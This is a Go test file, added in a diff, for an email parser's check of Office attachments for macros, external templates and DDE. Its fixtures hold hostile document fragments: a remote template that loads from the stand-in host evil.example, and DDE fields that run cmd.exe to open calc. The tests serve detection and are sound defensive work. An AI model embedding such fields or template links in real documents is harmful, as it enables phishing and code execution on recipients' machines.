@@ -0,0 +1,108 @@
+package parsemail
+
+import (
+	"archive/zip"
+	"bytes"
+	"testing"
+)
+
+// officeDocument returns a zip archive with the given files
+func officeDocument(t *testing.T, files map[string]string) []byte {
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for name, content := range files {
+		w, err := zw.Create(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		w.Write([]byte(content))
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+
+	return buf.Bytes()
+}
+
+const wordDocument = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>`
+
+func TestCheckOffice(t *testing.T) {
+	var testData = map[int]struct {
+		files map[string]string
+		data  []byte
+		codes []string
+	}{
+		1: {files: map[string]string{"word/document.xml": wordDocument}},
+		2: {
+			files: map[string]string{"word/document.xml": wordDocument, "word/vbaProject.bin": "VBA"},
+			codes: []string{string(FindingOfficeMacros)},
+		},
+		3: {
+			files: map[string]string{"xl/workbook.xml": "<workbook/>", "xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"},
+			codes: []string{string(FindingOfficeMacros)},
+		},
+		4: {
+			files: map[string]string{
+				"word/document.xml": wordDocument,
+				"word/_rels/settings.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
+<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>
+</Relationships>`,
+				"word/_rels/document.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
+<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>
+<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com" TargetMode="External"/>
+</Relationships>`,
+			},
+			codes: []string{string(FindingOfficeExternalTemplate)},
+		},
+		5: {
+			files: map[string]string{
+				"word/document.xml": `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>
+<w:r><w:fldChar w:fldCharType="begin"/></w:r>
+<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r>
+<w:r><w:fldChar w:fldCharType="end"/></w:r>
+<w:fldSimple w:instr=" PAGE "/>
+</w:p></w:body></w:document>`,
+			},
+			codes: []string{string(FindingOfficeDDE)},
+		},
+		6: {
+			files: map[string]string{
+				"xl/externalLinks/externalLink1.xml": `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
+			},
+			codes: []string{string(FindingOfficeDDE)},
+		},
+		7: {
+			data:  append(append([]byte{}, oleSignature...), append([]byte("\x00\x00"), utf16LE("_VBA_PROJECT")...)...),
+			codes: []string{string(FindingOfficeMacros)},
+		},
+		8: {data: []byte("%PDF-1.4\n")},
+	}
+
+	for index, td := range testData {
+		data := td.data
+		if td.files != nil {
+			data = officeDocument(t, td.files)
+		}
+
+		e := Email{Attachments: []Attachment{{Filename: "invoice.docx", Data: bytes.NewReader(data)}}}
+
+		var codes []string
+		for _, f := range e.CheckOfficeAttachments() {
+			codes = append(codes, string(f.Code))
+		}
+
+		if !assertSliceEq(codes, td.codes) {
+			t.Errorf("[Test Case %v] Wrong findings. Expected: %s, Got: %s", index, td.codes, codes)
+		}
+	}
+}
+
+func TestCheckOfficeUnreadable(t *testing.T) {
+	e := Email{Attachments: []Attachment{{Filename: "broken.docx", Data: bytes.NewReader([]byte("PK\x03\x04broken"))}}}
+
+	findings := e.CheckOfficeAttachments()
+	if len(findings) != 1 || findings[0].Code != FindingOfficeUnreadable {
+		t.Errorf("Wrong findings. Expected an unreadable attachment, Got: %v", findings)
+	}
+}